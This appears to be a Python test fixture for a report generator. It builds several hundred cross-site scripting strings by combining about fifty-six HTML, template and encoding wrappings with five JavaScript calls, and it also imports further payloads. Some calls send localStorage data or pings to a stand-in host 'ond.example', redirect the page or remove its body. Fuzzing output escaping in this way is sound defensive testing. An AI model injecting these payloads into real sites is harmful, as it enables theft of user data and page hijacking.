"""Three hundred texts that a page might take for something else than text."""

from __future__ import annotations

from itertools import product
from typing import Final

from tests.report.hostile import PAYLOADS

_CALLS = (
    "alert(1)",
    "document.body.remove()",
    "fetch('//ond.example/'+localStorage.length)",
    "location='//ond.example'",
    "new Image().src='//ond.example'",
)
_WRAPPINGS = (
    "<script>{}</script>",
    "<SCRIPT/XSS>{}</SCRIPT>",
    "</textarea><script>{}</script>",
    "</title><svg onload={}>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<math><mtext></p><script>{}</script>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    '<iframe src="javascript:{}">',
    '<a href="javascript:{}">lenke</a>',
    '<form action="javascript:{}"><button>x',
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    '<link rel=stylesheet href="javascript:{}">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="javascript:{}//">',
    "<style>@import 'javascript:{}';</style>",
    '<div style="background:url(javascript:{})">',
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><script>{}</script>">',
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "'-{}-'",
    '";{}//',
    "`${{{}}}`",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\ufeff<script>{}</script>",
    "\u202e<script>{}</script>\u202c",
    "<scr\u200bipt>{}</scr\u200bipt>",
    "＜script＞{}＜/script＞",
    "<p onclick={}>trykk</p>",
    '<button formaction="javascript:{}">x',
    "<marquee onstart={}>",
    "<x onmouseover={} style=position:fixed;inset:0>",
    "<audio src=x onerror={}>",
    "<track src=x onerror={}>",
    '<portal src="javascript:{}">',
    "<isindex type=image src=x onerror={}>",
    "<keygen autofocus onfocus={}>",
    "<xml><i onload={}></i></xml>",
    '<table background="javascript:{}">',
    "[lenke](javascript:{})",
    "<a ping='//ond.example' href='#{}'>x</a>",
)

TEXTS: Final = tuple(
    text
    for text in (*PAYLOADS, *(wrap.format(call) for wrap, call in product(_WRAPPINGS, _CALLS)))
    if "\0" not in text and not any("\ud800" <= char <= "\udfff" for char in text)
)
